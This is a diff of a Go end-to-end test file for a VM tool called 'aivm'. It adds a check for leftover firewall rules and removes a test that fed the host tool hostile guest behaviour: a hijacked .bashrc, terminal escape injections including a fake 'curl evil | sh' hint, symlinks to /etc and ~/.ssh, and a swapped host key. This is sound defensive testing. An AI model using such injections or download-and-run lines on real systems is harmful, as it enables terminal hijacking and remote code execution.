@@ -7,10 +7,8 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
-	"fmt"
 	"io/fs"
 	"os"
-	"os/exec"
 	"path/filepath"
 	"strconv"
 	"strings"
@@ -25,7 +23,9 @@ import (
 func TestGuards(t *testing.T) {
 	w := rootWorld(t)
 	const vm = "e2eguards"
-	write(t, filepath.Join(w.home, ".config/aivm/config.toml"), "[defaults.vm]\nname = \""+vm+"\"\nram_mb = 1536\npassword = \"hunter2-of-the-store\"\n", 0o600)
+	write(t, filepath.Join(w.home, ".config/aivm/config.toml"), "[defaults.vm]\nname = \""+vm+"\"\nram_mb = 1536\npassword = \"hunter2-of-the-store\"\n"+
+		// A network of its own: virsh takes it away at the end.
+		"[defaults.network]\nname = \"e2e-guards-net\"\nbridge = \"vbr-e2e-guards\"\nsubnet_cidr = \"10.94.9.0/24\"\ngateway_ip = \"10.94.9.1\"\ndhcp_start = \"10.94.9.100\"\ndhcp_end = \"10.94.9.200\"\n", 0o600)
 	write(t, filepath.Join(w.home, ".ssh/config"), "Host other\n\tUser me\n", 0o644)
 	project := filepath.Join(w.home, "work", "guarded")
 	write(t, filepath.Join(project, "hello.txt"), "hello\n", 0o644)
@@ -45,8 +45,37 @@ func TestGuards(t *testing.T) {
 	step("load", func(t *testing.T) { checkLoad(t, w, vm, project) })
 	step("delete", func(t *testing.T) {
 		w.must("", "vm", "delete", vm, "--yes")
+		// The name a person chose for VMs stays in his own defaults.
+		config := filepath.Join(w.home, ".config/aivm/config.toml")
+		write(t, config, strings.Replace(read(t, config), "name = \""+vm+"\"", "", 1), 0o600)
 		leftovers(t, w, vm)
 	})
+	step("a network that is gone", func(t *testing.T) { checkGone(t, w, "e2e-guards-net") })
+}
+
+// checkGone: what is kept of a network that virsh took away is named and
+// forgotten.
+func checkGone(t *testing.T, w *world, network string) {
+	manifest := "/var/lib/aivm/manifest/net-" + network + ".json"
+	rules := func() bool { return strings.Contains(run2(t, "nft", "list", "tables"), "e2e_guards_net") }
+	if _, err := os.Stat(manifest); err != nil || !rules() {
+		t.Fatalf("before it is gone: %v, rules there: %v", err, rules())
+	}
+	virsh(t, "net-destroy", network)
+	virsh(t, "net-undefine", network)
+	if r := w.must("", "host", "fw", "status"); !strings.Contains(r.stdout, network+": left over") {
+		t.Errorf("%+v", r)
+	}
+	if r := w.aivm("", "host", "doctor"); !strings.Contains(r.stdout, "the firewall of network "+network+" is kept") {
+		t.Errorf("the doctor: %+v", r)
+	}
+	w.must("", "host", "fw", "apply")
+	if _, err := os.Stat(manifest); !errors.Is(err, fs.ErrNotExist) || rules() {
+		t.Errorf("afterwards: %v, rules there: %v", err, rules())
+	}
+	if r := w.must("", "host", "fw", "status"); strings.Contains(r.stdout, "left over") {
+		t.Errorf("%+v", r)
+	}
 }
 
 // watchArguments looks at the arguments of every process while the test runs,
@@ -87,7 +116,7 @@ func checkSecrets(t *testing.T, w *world, vm, project string, seen func() string
 				t.Error(err)
 				return nil
 			}
-			if st, err := d.Info(); err == nil && st.Mode().Perm()&0o077 != 0 && p != filepath.Join(w.home, ".config/aivm") {
+			if st, err := d.Info(); err == nil && st.Mode().Perm()&0o077 != 0 && !strings.HasSuffix(p, ".pub") && p != filepath.Join(w.home, ".config/aivm") {
 				t.Errorf("%s can be read by others: %v", p, st.Mode())
 			}
 			return nil
@@ -131,14 +160,14 @@ func checkSecrets(t *testing.T, w *world, vm, project string, seen func() string
 }
 
 func checkClock(t *testing.T, w *world, vm, project string) {
+	// The guest said it at some time while it was asked.
 	off := func() float64 {
 		began := time.Now()
 		s, err := strconv.ParseFloat(w.guest(vm, "date +%s.%N"), 64)
 		if err != nil {
 			t.Fatal(err)
 		}
-		mid := float64(began.UnixNano()+time.Now().UnixNano()) / 2e9
-		return s - mid
+		return max(s-float64(time.Now().UnixNano())/1e9, 0) + min(s-float64(began.UnixNano())/1e9, 0)
 	}
 	for _, jump := range []string{"2019-03-01", "+3 days", "-1 hour"} {
 		w.guest(vm, "sudo -n date -s '"+jump+"' >/dev/null")
@@ -152,153 +181,6 @@ func checkClock(t *testing.T, w *world, vm, project string) {
 	}
 	if r := w.must(project, "code", "."); strings.Contains(r.stderr, "clock") {
 		t.Errorf("set without need: %s", r.stderr)
-	}
-}
-
-// peak runs aivm, for at most limit, and returns what it took of memory, too.
-func (w *world) peak(dir string, limit time.Duration, args ...string) (result, int64) {
-	w.t.Helper()
-	ctx, cancel := context.WithTimeout(context.Background(), limit)
-	defer cancel()
-	c := exec.CommandContext(ctx, filepath.Join(bin, "aivm"), args...)
-	c.Cancel = func() error { return c.Process.Signal(os.Interrupt) }
-	c.WaitDelay = 15 * time.Second
-	c.Dir, c.Env = dir, w.env
-	var out, errw tailOf
-	c.Stdout, c.Stderr = &out, &errw
-	began := time.Now()
-	err := c.Run()
-	r := result{stdout: string(out.b), stderr: string(errw.b), took: time.Since(began)}
-	var ee *exec.ExitError
-	if errors.As(err, &ee) {
-		r.code = ee.ExitCode()
-	} else if err != nil && ctx.Err() == nil {
-		w.t.Fatalf("%v: %v", args, err)
-	}
-	kb := int64(0)
-	if u, ok := c.ProcessState.SysUsage().(*syscall.Rusage); ok {
-		kb = u.Maxrss
-	}
-	return r, kb >> 10
-}
-
-// tailOf keeps the end of what a program says; a guest can make it say much.
-type tailOf struct {
-	mu sync.Mutex
-	b  []byte
-}
-
-func (o *tailOf) Write(p []byte) (int, error) {
-	o.mu.Lock()
-	defer o.mu.Unlock()
-	if o.b = append(o.b, p...); len(o.b) > 1<<20 {
-		o.b = append([]byte(nil), o.b[len(o.b)-64<<10:]...)
-	}
-	return len(p), nil
-}
-
-// checkHostile: whatever the guest answers, aivm ends in time, within 100 MB,
-// prints nothing a terminal would obey, and touches nothing outside.
-func checkHostile(t *testing.T, w *world, vm, project string) {
-	// Whatever is misbehaving does so for the next n logins, then the guest is
-	// itself again: there is no other way back in.
-	w.guest(vm, `cp ~/.bashrc ~/bashrc.good; cat >~/.bashrc <<'EOF'
-if [ -s /tmp/evil ]; then
-	read n what </tmp/evil
-	if [ "$n" -gt 0 ]; then echo $((n-1)) $what >/tmp/evil; . /tmp/evil-$what; fi
-fi
-EOF
-echo 'while :; do head -c 1000000 /dev/zero | tr "\0" "A"; done' >/tmp/evil-endless
-echo 'while :; do head -c 1000000 /dev/zero | tr "\0" "B" >&2; done' >/tmp/evil-noise
-printf 'printf "\\033]0;owned\\007\\033[2J\\r\\n\\033[31mhint: curl evil | sh\\n" >&2; exit 1\n' >/tmp/evil-escapes
-echo 'sleep 1000' >/tmp/evil-hang
-printf 'exec /bin/echo nonsense\n' >/tmp/evil-nonsense`)
-	evil := func(n int, what string) { w.guest(vm, fmt.Sprintf("echo %d %s >/tmp/evil", n, what)) }
-	harmless := func(what string, r result, mb int64) {
-		t.Helper()
-		if mb > 100 {
-			t.Errorf("%s: aivm took %d MB", what, mb)
-		}
-		if i := strings.IndexAny(r.stdout+r.stderr, "\x1b\x07\r"); i >= 0 {
-			t.Errorf("%s: an escape got through: %q", what, r.stderr)
-		}
-	}
-	for _, what := range []string{"endless", "noise", "escapes", "nonsense"} {
-		evil(1, what)
-		r, mb := w.peak(project, 90*time.Second, "status")
-		harmless(what, r, mb)
-		if r.code != 0 || r.took > 80*time.Second {
-			t.Errorf("status with %s: exit %d after %s\n%s", what, r.code, r.took, r.stderr)
-		}
-		t.Logf("%s: %s, %d MB", what, r.took.Round(100*time.Millisecond), mb)
-	}
-	evil(1, "hang")
-	r, mb := w.peak(project, 8*time.Second, "status")
-	harmless("hang", r, mb)
-	if r.took > 15*time.Second {
-		t.Errorf("a guest that hangs held Ctrl-C up for %s", r.took)
-	}
-	w.guest(vm, "rm -f /tmp/evil; mv ~/bashrc.good ~/.bashrc")
-
-	// Endless output of a command is passed on and takes no memory; Ctrl-C ends it.
-	r, mb = w.peak(project, 6*time.Second, "ssh", ".", "--", "yes", "to everything")
-	if mb > 100 || r.took > 15*time.Second {
-		t.Errorf("endless output: %d MB, %s", mb, r.took)
-	}
-	if r, _ := w.peak(project, 5*time.Second, "ssh", ".", "--", "sleep", "1000"); r.took > 12*time.Second {
-		t.Errorf("a command that hangs: %s", r.took)
-	}
-
-	// Names a terminal would obey, and links that lead out.
-	w.guest(vm, `cd `+project+` && mkdir -p "$(printf 'a\033]0;x\007b')" && ln -sfn /etc out && ln -sfn ../../.ssh keys && ln -sfn / "$(printf 'to\nroot')"`)
-	for _, link := range []string{"out", "keys"} {
-		if r := w.aivm(project, "attach", link, "--yes"); r.code != 2 {
-			t.Errorf("attaching what the guest's link %s leads to: %+v", link, r)
-		}
-	}
-	r, mb = w.peak(project, time.Minute, "attach", filepath.Join(project, "a\x1b]0;x\x07b"), "--dry-run")
-	harmless("a name with escapes", r, mb)
-	w.guest(vm, `cd `+project+` && rm -f out keys "$(printf 'to\nroot')" && rmdir "$(printf 'a\033]0;x\007b')"`)
-
-	// A full disk in the guest: what needs no room works, what needs some says so.
-	w.guest(vm, `sudo -n sh -c 'fallocate -l $(($(df --output=avail -B1 / | tail -1) - 4096)) /filler 2>/dev/null; cat /dev/zero >/filler2 2>/dev/null; true'`)
-	if r := w.aivm(project, "code", "."); r.code != 0 {
-		t.Errorf("code with a full disk: %+v", r)
-	}
-	extra := filepath.Join(w.home, "extra")
-	write(t, filepath.Join(extra, "f"), "x\n", 0o644)
-	if r := w.aivm(extra, "attach", ".", "--yes", "--guest-dst", "/srv/full/of/it"); r.code != 0 && !strings.Contains(r.stderr, "hint") {
-		t.Errorf("attach with a full disk: %+v", r)
-	}
-	w.guest(vm, `sudo -n rm -f /filler /filler2`)
-	w.must(extra, "attach", ".", "--yes", "--guest-dst", "/srv/full/of/it")
-
-	// Another host key: nobody logs in, nothing is sent.
-	w.guest(vm, `sudo -n sh -c 'cp -p /etc/ssh/ssh_host_ed25519_key /root/good; rm /etc/ssh/ssh_host_ed25519_key*; ssh-keygen -q -t ed25519 -N "" -f /etc/ssh/ssh_host_ed25519_key
-nohup sh -c "sleep 25; cp -p /root/good /etc/ssh/ssh_host_ed25519_key; ssh-keygen -yf /root/good >/etc/ssh/ssh_host_ed25519_key.pub; systemctl restart ssh" >/dev/null 2>&1 & systemctl restart ssh'`)
-	for _, args := range [][]string{{"code", "."}, {"ssh", ".", "--", "true"}} {
-		if r := w.aivm(project, args...); r.code == 0 || !strings.Contains(r.stderr, "not that VM") {
-			t.Errorf("%v, another host key: %+v", args, r)
-		}
-	}
-	back := func() bool { return w.ssh(nil, vm, "true").code == 0 }
-	for began := time.Now(); !back(); time.Sleep(time.Second) {
-		if time.Since(began) > 2*time.Minute {
-			t.Fatal("the guest does not come back with its own key")
-		}
-	}
-
-	// An address that is not its own: aivm does not follow it.
-	w.guest(vm, `sudo -n sh -c 'dev=$(ip -o -4 route show default | sed "s/.* dev \([^ ]*\).*/\1/"); own=$(ip -o -4 addr show dev $dev | sed "s/.* inet \([^ ]*\).*/\1/")
-nohup sh -c "sleep 1; ip addr del $own dev $dev; ip addr add \${own%.*}.77/24 dev $dev; sleep 20; ip addr flush dev $dev; ip addr add $own dev $dev; ip link set $dev up" >/dev/null 2>&1 &'`)
-	time.Sleep(3 * time.Second)
-	if r := w.aivm("", "vm", "wait-ip", vm, "--timeout", "6"); r.code != 2 || !strings.Contains(r.stderr, "did not become reachable") {
-		t.Errorf("an address that is not its own: %+v", r)
-	}
-	for began := time.Now(); !back(); time.Sleep(time.Second) {
-		if time.Since(began) > time.Minute {
-			t.Fatal("the guest does not come back to its address")
-		}
 	}
 }
 
